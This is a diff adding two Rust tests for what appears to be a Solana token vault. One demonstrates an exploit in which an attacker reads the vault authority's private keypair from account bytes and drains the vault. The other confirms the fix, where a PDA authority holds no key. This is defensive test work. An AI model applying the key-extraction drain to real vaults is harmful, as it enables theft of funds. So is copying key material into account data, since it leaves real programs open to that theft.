@@ -0,0 +1,59 @@
+#[tokio::test]
+async fn test_stored_keypair_exploit() {
+    println!("\n=== EXPLOIT: Vault Keypair Read From Account Data ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let vault_authority = Keypair::new();
+    let (vault, vault_token) = initialize_vault(&admin, &vault_authority).await;
+    mint_to(&vault_token, 1_000_000).await;
+
+    println!("1. Mallory fetches the vault account");
+    let data = get_account_data(&vault).await;
+    // Vulnerable: bytes 40..104 hold the authority's keypair
+    let leaked = Keypair::from_bytes(&data[40..104]).unwrap();
+    assert_eq!(leaked.pubkey(), vault_authority.pubkey());
+    println!("   Recovered keypair for {}", leaked.pubkey());
+
+    println!("\n2. She signs an SPL Token transfer directly");
+    let mallory_token = create_token_account(&mallory, &get_mint(&vault_token).await).await;
+    spl_transfer(&vault_token, &mallory_token, &leaked, 1_000_000)
+        .await
+        .unwrap();
+
+    assert_eq!(get_token_balance(&vault_token).await, 0);
+    assert_eq!(get_token_balance(&mallory_token).await, 1_000_000);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Vault drained without calling the program");
+}
+
+#[tokio::test]
+async fn test_pda_vault_authority() {
+    println!("\n=== SECURITY: Vault Authority Is a PDA ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let (vault, vault_token) = initialize_vault(&admin).await;
+    mint_to(&vault_token, 1_000_000).await;
+
+    println!("1. The vault account holds no key material");
+    let data = get_account_data(&vault).await;
+    assert_eq!(data.len(), 8 + 32 + 32 + 1);
+    let (vault_authority, _) =
+        Pubkey::find_program_address(&[b"vault_authority", vault.as_ref()], &program_id());
+    assert!(!vault_authority.is_on_curve());
+    println!("   ✓ Authority {} is off-curve: no private key exists", vault_authority);
+
+    println!("\n2. Mallory calls withdraw without the admin");
+    let mallory_token = create_token_account(&mallory, &get_mint(&vault_token).await).await;
+    let result = withdraw(&vault, &mallory_token, &mallory, 1_000_000).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintHasOne");
+
+    println!("\n3. Admin withdraws; the program signs for the PDA");
+    let admin_token = create_token_account(&admin, &get_mint(&vault_token).await).await;
+    withdraw(&vault, &admin_token, &admin, 1_000_000).await.unwrap();
+    assert_eq!(get_token_balance(&admin_token).await, 1_000_000);
+    println!("   ✓ Transfer signed with invoke_signed");
+}